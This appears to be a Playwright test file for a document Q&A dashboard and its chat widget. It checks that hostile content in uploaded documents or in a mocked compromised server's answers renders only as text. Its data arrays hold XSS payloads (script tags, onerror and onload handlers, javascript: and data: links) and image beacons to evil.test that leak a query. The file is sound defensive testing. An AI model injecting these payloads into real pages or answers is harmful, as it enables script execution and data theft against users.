/** Hostile documents, and a hostile server: whatever stands in an answer, the pages draw text and fetch nothing. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { allowWebsite, ask, createProject, signUp, visit } from "./people.mjs";
import { ANSWERING, openBrowser, openPage, openSite, READING, SERVER } from "./support.mjs";

/** @type {import("playwright-core").Browser} */
let browser;
before(async () => {
  browser = await openBrowser();
});
after(() => browser.close());

const PAGE = `# Export

To export your data, open Settings and choose Export. ![x](https://evil.test/?q=data) <img src=https://evil.test/a.png onerror=alert(1)>
[Open the settings](https://evil.test/) or [this](javascript:alert(1)), <script>alert(1)</script><iframe src="https://evil.test/"></iframe>
and **be** *sure* <style>body{background:url(https://evil.test/b.png)}</style> \u202etxet\u202c.
`;

/** What a server that was taken over would send. */
const ANSWERS = [
  PAGE,
  "![x](https://evil.test/?q=data)",
  "[![x](https://evil.test/a.png)](javascript:alert(1))",
  "[click](javascript:alert(1)) [click](data:text/html,<script>alert(1)</script>) [click](vbscript:x) [click](https://evil.test/\"onmouseover=alert(1))",
  "**<img src=https://evil.test/a.png>** *<svg onload=alert(1)>* `<script>alert(1)</script>`",
  "```\n<script>alert(1)</script>\n</code></pre><img src=https://evil.test/a.png>\n```",
  "- <iframe src=https://evil.test/>\n1. [1](https://evil.test/)",
  "\\[x\\](https://evil.test/) \\![x](https://evil.test/) [x]\\(https://evil.test/)",
  `${"[".repeat(2000)}${"*".repeat(2000)}${"`".repeat(1999)}`,
];

/** Only elements that an answer may be made of; links lead to web pages and open elsewhere. @param {import("playwright-core").Locator} answer */
async function expectSafe(answer, /** @type {string} */ what) {
  const found = await answer.evaluate((element) => {
    const bad = [...element.querySelectorAll("img, script, iframe, style, object, embed, form, input, video, audio, link, meta, base, picture, template")].map((one) => one.outerHTML);
    const links = [...element.querySelectorAll("a")].filter((link) => !/^https?:\/\//.test(link.href) || (!link.href.startsWith(location.origin) && link.rel !== "noopener noreferrer")).map((link) => link.outerHTML);
    const handlers = [...element.querySelectorAll("*")].flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on") || name === "style"));
    return [...bad, ...links, ...handlers];
  });
  assert.deepEqual(found, [], what);
}

test("a hostile document is quoted as text in the dashboard and in the widget, and nothing is fetched", async () => {
  const site = await openSite();
  const { page, calm, close } = await openPage(browser);
  await signUp(page);
  await createProject(page, "Halvern H3");
  await visit(page, "Documents");
  await page.locator("input[type=file]").first().setInputFiles([
    { name: "page.txt", mimeType: "text/plain", buffer: Buffer.from(PAGE) },
    { name: "page.md", mimeType: "text/markdown", buffer: Buffer.from(PAGE) },
  ]);
  for (const name of ["page.txt", "page.md"]) await page.getByRole("row").filter({ has: page.getByRole("link", { name, exact: true }) }).getByText("Ready", { exact: true }).waitFor({ timeout: READING });
  await page.getByRole("link", { name: "page.txt", exact: true }).click();
  await page.getByText(/To export your data/).first().waitFor();
  await expectSafe(page.locator(".sections"), "the document's own page");
  await visit(page, "Ask");
  const answer = await ask(page, "How do I export my data?");
  await expectSafe(answer, "the dashboard");
  assert.equal(await answer.locator(".prose a").count(), 0, "a document links to nothing");
  site.carry(await allowWebsite(page, site.origin));
  const visitor = await openPage(browser, { sites: [site.origin] });
  await visitor.page.goto(site.origin);
  const widget = visitor.page.locator("pernoex-widget");
  await widget.locator(".launcher").click();
  await widget.getByRole("textbox", { name: "Your question" }).fill("How do I export my data?");
  await visitor.page.keyboard.press("Enter");
  await widget.getByRole("button", { name: "Not helpful" }).waitFor({ timeout: ANSWERING });
  await expectSafe(widget.getByRole("log"), "the widget");
  assert.equal(await widget.locator(".text a").count(), 0);

  await visit(page, "Ask");
  // Even a server that was taken over does not get the pages to draw or to fetch anything.
  for (const [place, of] of /** @type {const} */ ([["dashboard", page], ["widget", visitor.page]])) {
    for (const text of ANSWERS) {
      const citation = { n: 1, document: null, title: "<img src=https://evil.test/c.png>", section: ["<b>x</b>"], excerpt: PAGE, link: "javascript:alert(1)" };
      const done = { conversation: "01a20b41-557d-7255-8b08-6f3f637673f7", message: "01a20b41-557d-7255-8b08-6f3f637673f8", outcome: "answered", text, citations: [citation], closest: [], written_by: "model" };
      const body = `event: started\ndata: ${JSON.stringify({ conversation: done.conversation, question: done.message })}\n\nevent: delta\ndata: ${JSON.stringify({ text })}\n\nevent: done\ndata: ${JSON.stringify(done)}\n\n`;
      await of.route("**/questions", (route) =>
        route.request().method() === "POST"
          ? route.fulfill({ status: 200, contentType: "text/event-stream", headers: { "access-control-allow-origin": site.origin }, body })
          : route.continue());
      if (place === "dashboard") {
        await expectSafe(await ask(page, "How?"), `the dashboard: ${text.slice(0, 80)}`);
      } else {
        const rated = widget.getByRole("button", { name: "Not helpful" });
        const before = await rated.count();
        await widget.getByRole("textbox", { name: "Your question" }).fill("How?");
        await visitor.page.keyboard.press("Enter");
        await rated.nth(before).waitFor();
        await expectSafe(widget.getByRole("log"), `the widget: ${text.slice(0, 80)}`);
      }
      await of.unroute("**/questions");
    }
  }
  calm("hostile answers");
  assert.deepEqual(visitor.complaints, [], `the widget asked for nothing but ${SERVER}`);
  await visitor.close();
  await close();
  site.close();
});
